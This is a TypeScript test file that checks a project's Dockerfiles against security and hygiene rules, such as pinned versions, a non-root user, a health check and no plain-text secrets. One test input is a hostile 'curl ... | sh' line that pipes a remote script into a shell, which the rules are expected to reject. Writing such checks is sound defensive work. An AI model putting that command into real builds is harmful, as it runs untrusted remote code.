import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DockerfileParser } from 'dockerfile-ast';
import { describe, expect, it } from 'vitest';
import { dockerfileProblems } from './dockerfile-rules.ts';
import { commandProblems } from './program-rules.ts';

const top = join(import.meta.dirname, '..', '..');
const read = (path: string): string => readFileSync(join(top, path), 'utf8');

describe.each(['Dockerfile', 'deploy/egress/Dockerfile'])('%s', (path) => {
  const text = read(path);

  it('keeps every rule', () => {
    expect(dockerfileProblems(text)).toEqual([]);
  });

  it.each<[string, (text: string) => string, string]>([
    ['no version', (all) => all.replace(/^(ARG \w+_IMAGE=\w+):.*$/m, '$1'), 'names no version'],
    ['the newest', (all) => all.replace(/^(ARG \w+_IMAGE=\w+):.*$/m, '$1:latest'), 'names no version'],
    ['root', (all) => all.replace(/^USER .*$/m, 'USER root'), 'the last user'],
    ['nobody named', (all) => all.replace(/^USER .*$/m, ''), 'the last user'],
    ['no check', (all) => all.replace(/^HEALTHCHECK .*\\\n.*$/m, ''), 'HEALTHCHECK'],
    ['a shell', (all) => all.replace(/^CMD .*$/m, 'CMD run me'), 'a shell would take the signals'],
    ['recommended packages', (all) => all.replace(' --no-install-recommends', ''), 'more than is named'],
    ['package lists', (all) => all.replace(/rm -rf \S+/, 'true'), 'stay in the layer'],
    ['a secret', (all) => `${all}\nENV API_TOKEN=abc\n`, 'API_TOKEN is in plain text'],
    ['an unknown setting', (all) => `${all}\nENV REVENANT_PROXY=abc\n`, 'REVENANT_PROXY is no setting'],
    ['all files', (all) => `${all}\nCOPY . /app\n`, 'everything gets in'],
    ['a script from outside', (all) => `${all}\nRUN curl -s https://x.example | sh\n`, 'runs what somebody sends'],
    ['no init', (all) => all.replace(/\btini\b/g, 'true'), 'no init process'],
  ])('would not pass with %s', (_, change, problem) => {
    const other = change(text);
    expect(other).not.toBe(text);
    expect(dockerfileProblems(other).join('\n')).toContain(problem);
  });
});

describe('the image', () => {
  const text = read('Dockerfile');
  const copied = DockerfileParser.parse(text)
    .getCOPYs()
    .filter((one) => !one.getFlags().some((flag) => flag.getName() === 'from'))
    .flatMap((one) => one.getArguments().slice(0, -1).map(String));
  const admitted = read('.dockerignore')
    .split('\n')
    .filter((line) => line.startsWith('!'))
    .map((line) => line.slice(1));

  it('copies what exists and what .dockerignore admits, and .dockerignore admits no more', () => {
    expect(copied.filter((path) => !existsSync(join(top, path)))).toEqual([]);
    expect([...new Set(copied)].sort()).toEqual([...admitted].sort());
    expect(read('.dockerignore').split('\n')).toContain('*');
  });

  it('starts a command that exists', async () => {
    const command = JSON.parse(/^CMD (\[.*\])$/m.exec(text)?.[1] ?? '[]') as string[];
    expect(await commandProblems(command)).toEqual([]);
    expect(await commandProblems(['wroker'])).toEqual(['there is no command wroker']);
  });
});
